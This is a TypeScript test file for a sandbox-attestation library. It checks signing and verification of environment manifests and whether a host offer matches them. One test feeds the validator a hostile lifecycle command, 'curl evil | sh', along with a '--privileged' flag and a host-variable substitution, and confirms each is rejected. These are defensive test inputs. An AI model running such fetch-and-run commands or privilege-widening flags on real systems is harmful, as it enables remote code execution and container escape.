// §14.6 verification and §14.7 satisfaction.
import { test } from "node:test";
import assert from "node:assert/strict";
import {
  addressOf,
  canonicalize,
  isWireError,
  pae,
  signBytes,
  testKey,
  toBase64,
  utf8,
  type Envelope,
} from "@sbx/wire";
import { isSandboxAttestError } from "../../src/errors.ts";
import {
  ingestManifest,
  MANIFEST_PAYLOAD_TYPE,
  manifestCheck,
  offerFor,
  satisfies,
  signManifest,
  verifyManifest,
  type HostOffer,
  type ManifestCheck,
} from "../../src/manifest/index.ts";

const PIN = `example.org/team/img@sha256:${"c".repeat(64)}`;
const steward = testKey("steward");
const mallory = testKey("mallory");
const manifest = ingestManifest(
  `{"image": "${PIN}", "remoteUser": "dev", "containerEnv": {"A": "1"}, "hostRequirements": {"cpus": 2, "memory": "1gb", "gpu": true}, "customizations": {}}`,
);

/** Signs arbitrary payload bytes as-is (so tests can sign what signPayload would canonicalise). */
function signRaw(body: Uint8Array, key = steward): Envelope {
  return {
    payloadType: MANIFEST_PAYLOAD_TYPE,
    payload: toBase64(body),
    signatures: [{ keyid: key.did, sig: toBase64(signBytes(key, pae(MANIFEST_PAYLOAD_TYPE, body))) }],
  };
}

function badManifest(value: unknown): string[] {
  try {
    verifyManifest(signRaw(utf8(canonicalize(value))));
  } catch (e) {
    assert.ok(isSandboxAttestError(e, "BadManifest"), String(e));
    return e.members.map((m) => `${m.pointer} ${m.code}`);
  }
  assert.fail("expected BadManifest");
}

test("verify: a signed manifest verifies; its address is the environment's, the document's is the payload's", () => {
  const v = verifyManifest(signManifest(manifest, steward), [steward.did]);
  assert.equal(v.address, manifest.address);
  assert.equal(v.address, addressOf(manifest.environment));
  assert.equal(v.document, addressOf(manifest));
  assert.deepEqual(v.signers, [steward.did]);
});

test("verify: wrong steward, bad signature, non-canonical payload, wrong payload type", () => {
  const env = signManifest(manifest, steward);
  assert.throws(
    () => verifyManifest(env, [mallory.did]),
    (e) => isWireError(e, "UnknownSigner"),
  );
  const other = signManifest({ ...manifest, name: "changed" }, steward);
  assert.throws(
    () => verifyManifest({ ...env, payload: other.payload }),
    (e) => isWireError(e, "BadSignature"),
  );
  const pretty = utf8(JSON.stringify(JSON.parse(canonicalize(manifest)), null, 1));
  assert.throws(
    () => verifyManifest(signRaw(pretty)),
    (e) => isWireError(e, "NotCanonical"),
  );
  assert.throws(
    () => verifyManifest({ ...env, payloadType: "application/json" }),
    (e) => isWireError(e, "WrongPayloadType"),
  );
});

test("verify: a signer cannot smuggle a command, a widening, or an unknown member in", () => {
  const env = { ...manifest.environment, postCreateCommand: "curl evil | sh" };
  assert.deepEqual(badManifest({ ...manifest, environment: env }), [
    "/environment/postCreateCommand LifecycleCommand",
  ]);
  assert.deepEqual(badManifest({ ...manifest, runArgs: ["--privileged"] }), ["/runArgs PrivilegeWidening"]);
  assert.deepEqual(badManifest({ ...manifest, environment: { ...manifest.environment, extra: 1 } }), [
    "/environment/extra UnknownMember",
  ]);
  const sneaky = { ...manifest.environment, env: { ...manifest.environment.env, HOME: "${localEnv:HOME}" } };
  assert.deepEqual(badManifest({ ...manifest, environment: sneaky, address: addressOf(sneaky) }), [
    "/environment/env/HOME HostSubstitution",
  ]);
  assert.deepEqual(badManifest({ ...manifest, ignored: ["/postCreateCommand"] }), ["/ignored InvalidValue"]);
});

test("verify: not in normal form, wrong address, wrong type, missing members", () => {
  const unpinned = { ...manifest.environment, image: "ubuntu:22.04" };
  assert.deepEqual(badManifest({ ...manifest, environment: unpinned }), [
    "/environment/image ImageNotPinned",
  ]);
  const unsorted = { ...manifest.environment, forward_ports: [2, 1] };
  assert.deepEqual(badManifest({ ...manifest, environment: unsorted, address: addressOf(unsorted) }), [
    "/environment NotNormalised",
  ]);
  assert.deepEqual(badManifest({ ...manifest, address: addressOf({}) }), ["/address AddressMismatch"]);
  assert.deepEqual(badManifest({ ...manifest, type: "other" }), ["/type InvalidValue"]);
  const noSource: Record<string, unknown> = { ...manifest };
  delete noSource.source;
  assert.deepEqual(badManifest(noSource), ["/source InvalidValue"]);
  assert.deepEqual(badManifest({ ...manifest, environment: { ...manifest.environment, env: [] } }), [
    "/environment/env InvalidValue",
  ]);
});

const big: HostOffer = {
  cpus: 8,
  memory_bytes: String(2 ** 31),
  storage_bytes: "0",
  gpu: { cores: 10, memory_bytes: "1" },
};

test("satisfies: the exact environment on a big enough host; the image compared by digest only", () => {
  assert.deepEqual(satisfies(manifest, offerFor(manifest.environment, big)), { ok: true });
  assert.deepEqual(satisfies(manifest, offerFor(manifest.environment, big), manifest.address), { ok: true });
  const mirror = {
    ...offerFor(manifest.environment, big),
    image: `mirror.local/img@sha256:${"c".repeat(64)}`,
  };
  assert.deepEqual(satisfies(manifest, mirror), { ok: true });
  assert.deepEqual(satisfies(manifest, { ...mirror, image: `sha256:${"c".repeat(64)}` }), { ok: true });
});

test("satisfies: every mismatch is listed", () => {
  const offer = {
    image: `example.org/team/img@sha256:${"d".repeat(64)}`,
    env: { A: "2", B: "x" },
    user: null,
    workspace_folder: "/w",
    host: { cpus: 1, memory_bytes: "5", storage_bytes: "0", gpu: null },
  };
  const r = satisfies(manifest, offer);
  assert.equal(r.ok, false);
  assert.ok(!r.ok);
  assert.equal(r.code, "EnvironmentMismatch");
  assert.deepEqual(
    r.mismatches.map((m) => m.pointer),
    [
      "/image",
      "/env/A",
      "/env/B",
      "/user",
      "/workspace_folder",
      "/host_requirements/cpus",
      "/host_requirements/memory_bytes",
      "/host_requirements/gpu",
    ],
  );
});

test("satisfies: another manifest address, or a manifest whose address is not its environment's", () => {
  const r = satisfies(manifest, offerFor(manifest.environment, big), addressOf({ other: true }));
  assert.ok(!r.ok && r.code === "ManifestMismatch");
  const forged = { ...manifest, environment: { ...manifest.environment, user: "root" } };
  const f = satisfies(forged, offerFor(forged.environment, big));
  assert.ok(!f.ok && f.code === "ManifestMismatch");
});

test("manifestCheck: §13's EnvironmentCheck shape, by recorded address", () => {
  const check = manifestCheck([manifest], offerFor(manifest.environment, big));
  const codeOf = (c: ManifestCheck) => (c.last === null || c.last.ok ? null : c.last.code);
  assert.equal(check.satisfies(manifest.address), true);
  assert.equal(codeOf(check), null);
  assert.equal(check.satisfies(addressOf({ unknown: 1 })), false);
  assert.equal(codeOf(check), "ManifestMismatch");
  const small = manifestCheck(manifest, { ...offerFor(manifest.environment, big), user: "root" });
  assert.equal(small.satisfies(manifest.address), false);
  assert.equal(codeOf(small), "EnvironmentMismatch");
});
